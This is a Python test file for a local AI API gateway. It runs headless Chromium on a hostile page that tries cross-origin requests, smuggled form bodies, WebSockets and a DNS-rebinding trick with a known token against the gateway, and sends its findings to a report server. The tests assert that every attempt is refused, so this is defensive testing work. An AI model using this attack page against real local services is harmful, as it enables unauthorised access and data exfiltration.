"""A web page in a real browser, Debian's chromium, that tries all that a page can do to reach the gateway, and even
knows a tool's token. The same page at a server that lets everybody in shows that its requests do come.
"""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.support.gatewaybed import SAID
from tests.support.httpserver import Request, Server, answer
from tests.support.messagesbed import MessagesBed
from tests.support.ports import free_port
from trayapp.core.switching.route import To
from trayapp.settings import schema

pytestmark = pytest.mark.clients

DEADLINE_S = 90
PATHS = (
    "/",
    "/v1/models",
    "/v1/chat/completions",
    "/v1/completions",
    "/v1/embeddings",
    "/v1/responses",
    "/v1/responses/resp_1",
    "/v1/messages?beta=true",
    "/v1/messages/count_tokens",
    "/v1/files",
    "/v1/images/generations",
    "/v1beta/models",
    "/brain/v1/models",
    "/nobody/v1/models",
)
_PAGE = """<!DOCTYPE html><meta charset="utf-8"><title>evil</title><body><script>
const paths = PATHS, report = "REPORT", said = [];
const body = JSON.stringify({model: "big-1", messages: [{role: "user", content: "x"}], input: "x", max_tokens: 1});
const wait = (ms) => new Promise((go) => setTimeout(go, ms));
async function tell(how, path, work) {
  try { said.push([how, path, await Promise.race([work(), wait(4000).then(() => "nothing")])]); }
  catch (error) { said.push([how, path, "refused"]); }
}
const read = async (got) => got.type === "opaque" ? "opaque" : `${got.status} ${await got.text()}`;
const ask = (url, how) => fetch(url, how).then(read);
const json = {"content-type": "application/json", "anthropic-version": "2023-06-01"};
const shown = (tag, name, url) => new Promise((come) => {
  const one = document.createElement(tag);
  one.onload = () => come("loaded"); one.onerror = () => come("error");
  if (tag === "link") one.rel = "stylesheet";
  one[name] = url; document.body.append(one);
});
const sent = (url, kind) => new Promise((come) => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random(); document.body.append(frame);
  form.target = frame.name; form.method = "POST"; form.action = url; form.enctype = kind;
  const field = document.createElement("input");
  field.name = body.slice(0, -1) + ',"y":"'; field.value = '"}'; form.append(field);
  document.body.append(form); form.submit(); frame.onload = () => come("loaded");
});
const socket = (url) => new Promise((come) => {
  const one = new WebSocket(url.replace("http", "ws"));
  one.onopen = () => come("open"); one.onerror = () => come("error");
});
const events = (url) => new Promise((come) => {
  const one = new EventSource(url);
  one.onopen = () => { one.close(); come("open"); }; one.onerror = () => { one.close(); come("error"); };
});
async function attack(base) {
  await Promise.all(paths.map(async (path) => {
    const url = base + path;
    await tell("get", path, () => ask(url));
    await tell("get without cors", path, () => ask(url, {mode: "no-cors"}));
    await tell("post", path, () => ask(url, {method: "POST", headers: json, body}));
    await tell("post without cors", path, () => ask(url, {method: "POST", mode: "no-cors", body}));
    await tell("with credentials", path, () => ask(url, {method: "POST", credentials: "include", body}));
    await tell("delete", path, () => ask(url, {method: "DELETE"}));
    await tell("beacon", path, async () => navigator.sendBeacon(url, new Blob([body], {type: "text/plain"})));
    await tell("form", path, () => sent(url, "text/plain"));
    await tell("encoded form", path, () => sent(url, "application/x-www-form-urlencoded"));
    for (const [tag, name] of [["img", "src"], ["script", "src"], ["link", "href"], ["iframe", "src"]])
      await tell(tag, path, () => shown(tag, name, url));
    await tell("websocket", path, () => socket(url));
    await tell("events", path, () => events(url));
  }));
}
async function main() {
  if ("BASE") await attack("BASE");
  else {
    // The name leads to another machine's server first, and then to this one's gateway: the same origin, for a browser.
    await fetch(report + "/begun", {mode: "no-cors"});
    while (await fetch("/mine").then((got) => got.text(), () => "gone") === "mine") await wait(50);
    while (await fetch("/mine").then(() => false, () => true)) await wait(50);
    await attack("TOKEN");
  }
  await fetch(report + "/told", {method: "POST", mode: "no-cors", body: JSON.stringify(said)});
}
main();
</script>"""


def page(report: str, base: str, token: str) -> str:
    paths = json.dumps([*PATHS, *(f"/t/{token}{path}" for path in PATHS)] if base else PATHS)
    raw = _PAGE.replace("PATHS", paths, 1).replace("REPORT", report)
    return raw.replace("BASE", base).replace("TOKEN", f"/t/{token}")


@asynccontextmanager
async def chromium(url: str, folder: Path) -> AsyncIterator[None]:
    """The browser with one page; ended with the block."""
    program = shutil.which("chromium")
    assert program is not None, "install Debian's chromium"
    process = await asyncio.create_subprocess_exec(
        program,
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-proxy-server",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        f"--user-data-dir={folder}",
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.terminate()
        await process.wait()


class Told:
    """What the page says it has found out, once it has."""

    def __init__(self) -> None:
        self.begun = asyncio.Event()
        self.done: asyncio.Future[list[tuple[str, str, Any]]] = asyncio.get_running_loop().create_future()

    async def behave(self, writer: asyncio.StreamWriter, request: Request) -> None:
        self.begun.set()
        if request.path == "/told" and not self.done.done():
            self.done.set_result([tuple(one) for one in json.loads(request.body)])
        await answer(200, {})(writer, request)


@pytest.mark.parametrize("route", [To.CLOUD, To.LOCAL])
async def test_a_page_of_another_origin_reaches_nothing(route: To, tmp_path: Path) -> None:
    async with Server() as evil, Server() as report, Server() as open_to_all, MessagesBed() as bed:
        bed.switch(route)
        for server in (bed.cloud, bed.brain, bed.local):
            server.always(answer(200, SAID))
        open_to_all.always(answer(200, SAID, {"access-control-allow-origin": "*"}))
        seen: dict[str, list[tuple[str, str, Any]]] = {}
        for name, base in (("open", open_to_all.url), ("gateway", str(bed.gateway.url))):
            told = Told()
            report.always(told.behave)
            evil.always(answer(200, page(report.url, base, bed.token)))
            async with chromium(f"{evil.url}/", tmp_path / name), asyncio.timeout(DEADLINE_S):
                seen[name] = await told.done
        # They did come to whoever lets everybody in, with all that a page can send.
        assert {one.method for one in open_to_all.requests} >= {"GET", "POST", "OPTIONS"}
        assert len(open_to_all.requests) > 8 * len(PATHS)
        assert any(str(SAID["choices"])[3:8] in str(found) for _, _, found in seen["open"])
        # Here nobody read a word, and nobody was asked for one.
        for how, path, found in seen["gateway"]:
            blind = {"refused", "opaque", "error", "loaded", "nothing", True, False}
            assert found in blind, (how, path, found)
        assert len(seen["gateway"]) == len(seen["open"])
        assert bed.cloud.requests == bed.brain.requests == bed.local.requests == []
        assert bed.gateway.last_seen == {}


async def test_a_name_that_is_bound_to_this_machine_later_reaches_nothing(tmp_path: Path) -> None:
    port = free_port()
    async with Server() as report, MessagesBed() as bed:
        for server in (bed.cloud, bed.brain, bed.local):
            server.always(answer(200, SAID))
        told = Told()
        report.always(told.behave)
        await bed.gateway.stop()
        async with AsyncExitStack() as browser, asyncio.timeout(DEADLINE_S):
            async with Server(port=port, keeps=False) as evil:
                evil.on("/mine", answer(200, "mine"))
                evil.always(answer(200, page(report.url, "", bed.token)))
                await browser.enter_async_context(chromium(f"http://evil.example:{port}/", tmp_path / "browser"))
                await told.begun.wait()
                await evil.wait_asked("/mine", 2)
            bed.settings = schema.Settings(gateway=schema.GatewaySettings(port=port, openai="acme", anthropic="brain"))
            await bed.gateway.start()
            seen = await told.done
        # It is the same origin: the page reads what it gets, which is a refusal each time.
        read = [found for how, _, found in seen if how in ("get", "post", "delete", "with credentials")]
        assert len(read) == 4 * len(PATHS)
        assert not [found for found in read if not str(found).startswith("403 ") or "Host header" not in str(found)]
        assert bed.cloud.requests == bed.brain.requests == bed.local.requests == []
        assert bed.gateway.last_seen == {}
